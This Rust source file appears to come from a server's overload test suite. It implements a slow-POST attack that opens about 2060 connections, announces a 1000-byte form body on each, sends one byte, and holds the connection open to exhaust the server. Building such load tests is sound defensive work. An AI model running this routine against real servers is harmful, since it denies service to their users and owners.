//! Forms over HTTP/1.1 whose bodies are announced and withheld.

use async_trait::async_trait;
use tokio::io::AsyncWriteExt as _;

use crate::overload::attack::{Attack, Attackers, PAUSE, drain};

/// A few more than the requests that may be in flight.
const CONNECTIONS: usize = 2060;

pub(crate) struct SlowBodies;

#[async_trait]
impl Attack for SlowBodies {
    async fn run(&self, by: Attackers) {
        let begun = async |by: Attackers, number| {
            let mut stream = by.connect(number).await?;
            let head = format!(
                "POST {} HTTP/1.1\r\nHost: {}\r\nContent-Type: application/x-www-form-urlencoded\r\n\
                 Content-Length: 1000\r\n\r\ng",
                by.target.token, by.target.authority
            );
            stream.write_all(head.as_bytes()).await?;
            by.sent(1);
            drain(&mut stream).await
        };
        by.many(CONNECTIONS, PAUSE, begun).await;
    }
}
